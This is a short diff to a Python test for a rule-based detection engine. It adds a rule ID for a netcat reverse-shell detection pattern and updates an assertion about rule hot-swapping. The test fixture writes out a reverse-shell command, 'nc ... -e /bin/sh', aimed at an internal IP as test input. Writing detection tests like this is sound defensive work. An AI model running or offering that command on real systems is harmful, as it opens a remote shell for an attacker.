@@ -64,12 +64,13 @@ def _feed(engine: Engine, *events: dict[str, Any]) -> list[dict[str, Any]]:
 
 
 NC = exec_of(["nc", "10.1.2.3", "4444", "-e", "/bin/sh"])
+NETCAT_SHELL = "e0208213-a02f-4e13-ae6a-e609b8c26b36"  # patterns/shellsieve/reverse_shell_netcat_exec.yml
 
 
 class TestSwap:
     def test_open_sequence_of_an_unchanged_rule_completes_across_the_swap(self, tmp_path: Path) -> None:
         engine = Engine(_ruleset(tmp_path, None), Settings())
-        assert rule_ids(_feed(engine, NC)[0]) == []  # step 1 of the sequence: open, no alert yet
+        assert rule_ids(_feed(engine, NC)[0]) == [NETCAT_SHELL]  # the payload rule; the sequence: open, no alert yet
         changes = engine.swap(_ruleset(tmp_path, "zz-marker"))
         assert changes["added"] == 1 and changes["changed"] == 0 and changes["sequences_kept"] == 1
         out = _feed(engine, net())
